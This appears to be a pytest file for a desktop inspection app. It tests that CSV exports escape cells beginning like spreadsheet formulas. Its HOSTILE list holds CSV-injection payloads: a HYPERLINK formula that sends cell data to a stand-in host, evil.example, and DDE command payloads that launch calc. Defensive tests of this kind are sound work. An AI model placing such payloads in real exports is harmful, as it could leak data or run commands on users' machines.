"""A CSV export is opened in a spreadsheet: a label, note, object name or model version that starts like a
formula (`=HYPERLINK(...)`, `+`, `-`, `@`, a tab, a carriage return) must arrive as text, not as a live
formula (OWASP's CSV-injection rule), while numbers (negative ones too) stay numbers."""

from __future__ import annotations

import csv

from PIL import Image

from lriad_desktop.core.store import review as rv
from lriad_desktop.core.evaluation.export import export_reviewed, spreadsheet_safe
from lriad_desktop.core.inspection.finding import Box, Defect, Finding, Verdict
from lriad_desktop.core.store.review import Review, ReviewKind
from lriad_desktop.core.store.review_store import ReviewStore

HOSTILE = ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")


def test_cells_that_start_like_a_formula_arrive_as_text(tmp_path):
    folder = tmp_path / "parts"
    folder.mkdir()
    with ReviewStore.open(tmp_path / "r.sqlite3") as store:
        for i, text in enumerate(HOSTILE):
            Image.new("RGB", (40, 30)).save(folder / f"{i}.png")
            image = store.add_image(folder / f"{i}.png", text)  # the object name an inspector typed
            finding = Finding(Verdict.ANOMALOUS, (Defect(text, Box(-1, 2, 30, 20)),), ("step",), "raw", text,
                              image_size=(40, 30))
            inspection = store.record_inspection(image.id, finding)
            accepted = rv.acceptance(finding, inspection.id)
            store.save_review(image.id, Review(ReviewKind.FLAG, Verdict.ANOMALOUS, accepted.defects, text,
                                               inspection.id))
        path = export_reviewed(store, "csv", tmp_path / "reviews.csv").path
    with open(path, newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert len(rows) == len(HOSTILE)
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (column, cell)
            assert not cell.startswith("-") or _is_number(cell), (column, cell)
    by_note = {row["note"]: row for row in rows}
    for text in HOSTILE:
        row = by_note["'" + text]  # the text itself is kept, after the quote that makes it text
        assert row["object_name"] == row["note"] == row["reviewed_model_version"] == "'" + text


def test_the_rule_itself():
    assert spreadsheet_safe("=1+1") == "'=1+1" and spreadsheet_safe("scratch") == "scratch"
    assert spreadsheet_safe(-3.5) == -3.5 and spreadsheet_safe(7) == 7 and spreadsheet_safe("") == ""


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True
